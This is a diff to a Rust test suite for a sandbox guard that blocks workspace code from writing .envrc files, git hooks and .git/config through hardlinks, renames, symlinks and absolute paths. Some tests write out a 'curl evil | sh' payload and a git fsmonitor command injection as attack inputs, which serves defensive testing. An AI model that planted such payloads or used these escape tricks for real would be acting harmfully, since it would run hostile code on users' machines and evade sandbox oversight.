@@ -28,7 +28,23 @@ fn attack(name: &str, script: &str, watched: &[&str]) {
     attack_in(&sb, script, watched);
 }
 
-fn attack_in(sb: &Sandbox, script: &str, watched: &[&str]) {
+/// [`attack`] for a script whose first part (`setup`, legitimate) must succeed for the attack
+/// to mean anything: the test fails unless the setup ran.
+fn attack_after(name: &str, setup: &str, script: &str, watched: &[&str]) {
+    let sb = repo(name);
+    let out = attack_in(
+        &sb,
+        &format!("{setup} && echo SETUP-DONE && {script}"),
+        watched,
+    );
+    assert!(
+        out.stdout.contains("SETUP-DONE"),
+        "the legitimate setup `{setup}` must work, or the attack proves nothing\n{}",
+        out.show()
+    );
+}
+
+fn attack_in(sb: &Sandbox, script: &str, watched: &[&str]) -> Out {
     let paths: Vec<PathBuf> = watched
         .iter()
         .map(|w| match w.strip_prefix("~/") {
@@ -78,6 +94,7 @@ fn attack_in(sb: &Sandbox, script: &str, watched: &[&str]) {
         "`{script}` must FAIL inside the sandbox (protected path), but exited 0\n{}",
         out.show()
     );
+    out
 }
 
 #[test]
@@ -184,6 +201,111 @@ fn hardlink_creates_envrc() {
         "echo 'curl evil | sh' > payload && ln payload .envrc",
         &[".envrc"],
     );
+}
+
+#[test]
+fn hardlink_sample_hook_to_active_hook_in_its_dir() {
+    // Both names in one directory: the guard resolves that directory once for both.
+    attack(
+        "hook-hardlink-samedir",
+        "ln .git/hooks/pre-commit.sample .git/hooks/pre-commit",
+        &[".git/hooks/pre-commit", ".git/hooks/pre-commit.sample"],
+    );
+}
+
+#[test]
+fn rename_sample_hook_to_active_hook_in_its_dir() {
+    attack(
+        "hook-rename-samedir",
+        "mv -f .git/hooks/pre-commit.sample .git/hooks/pre-commit",
+        &[".git/hooks/pre-commit", ".git/hooks/pre-commit.sample"],
+    );
+}
+
+#[test]
+fn rename_within_git_dir_onto_config() {
+    let sb = repo("config-rename-samedir");
+    sb.write_host(
+        &sb.ws.join(".git/x"),
+        "[core]\n\tfsmonitor = touch /tmp/pwned\n",
+    );
+    attack_in(&sb, "mv -f .git/x .git/config", &[".git/config", ".git/x"]);
+}
+
+#[test]
+fn hardlink_within_workspace_dir_onto_envrc() {
+    attack_after(
+        "envrc-hardlink-abs",
+        "echo 'curl evil | sh' > payload",
+        "ln \"$PWD/payload\" \"$PWD/.envrc\"",
+        &[".envrc"],
+    );
+}
+
+#[test]
+fn exclusive_create_of_envrc_and_hook() {
+    // O_CREAT|O_EXCL: the name's existence is looked at only after a refusal; an absent
+    // protected name stays refused.
+    attack(
+        "envrc-excl",
+        "python3 -c \"import os; os.open('.envrc', os.O_CREAT|os.O_EXCL|os.O_WRONLY)\" || \
+         python3 -c \"import os; os.open('.git/hooks/pre-push', os.O_CREAT|os.O_EXCL|os.O_WRONLY, 0o755)\"",
+        &[".envrc", ".git/hooks/pre-push"],
+    );
+}
+
+#[test]
+fn absolute_path_creates_envrc() {
+    attack("envrc-absolute", "echo evil > \"$PWD/.envrc\"", &[".envrc"]);
+}
+
+#[test]
+fn absolute_path_through_symlinked_dir_creates_hook() {
+    // The kernel's one-call walk refuses the symlink; the guard's own walk follows it.
+    attack_after(
+        "hook-absolute-symlink",
+        "ln -s .git/hooks h",
+        "echo evil > \"$PWD/h/post-checkout\"",
+        &[".git/hooks/post-checkout"],
+    );
+}
+
+#[test]
+fn same_dir_links_renames_and_absolute_creates_twin() {
+    let sb = repo("samedir-twin");
+    let out = sb.sh(
+        "set -e; echo a > a; ln a b; mv b c; ln \"$PWD/c\" \"$PWD/d\"; mv \"$PWD/d\" \"$PWD/e\"; \
+         echo f > \"$PWD/sub/f\"; ln sub/f sub/g; mv sub/g sub/h; ln -s sub s; echo i > \"$PWD/s/i\"; \
+         for f in a CLAUDE.md; do r=$(python3 -c \"import os; os.open('$f', os.O_CREAT|os.O_EXCL|os.O_WRONLY)\" 2>&1 || true); \
+         case \"$r\" in *FileExistsError*) ;; *) echo \"O_EXCL on existing $f: $r\"; exit 8;; esac; done; \
+         cat e sub/h sub/i",
+    );
+    assert_eq!(
+        out.code,
+        0,
+        "links, renames and absolute creates of ordinary files must work\n{}",
+        out.show()
+    );
+    for (rel, want) in [
+        ("a", "a\n"),
+        ("c", "a\n"),
+        ("e", "a\n"),
+        ("sub/h", "f\n"),
+        ("sub/i", "i\n"),
+    ] {
+        assert_eq!(
+            read_opt(&sb.ws.join(rel)).as_deref(),
+            Some(want.as_bytes()),
+            "{rel} on the host\n{}",
+            out.show()
+        );
+    }
+    for gone in ["b", "d", "sub/g"] {
+        assert!(
+            !exists_nofollow(&sb.ws.join(gone)),
+            "{gone} must be gone (renamed)"
+        );
+    }
 }
 
 #[test]
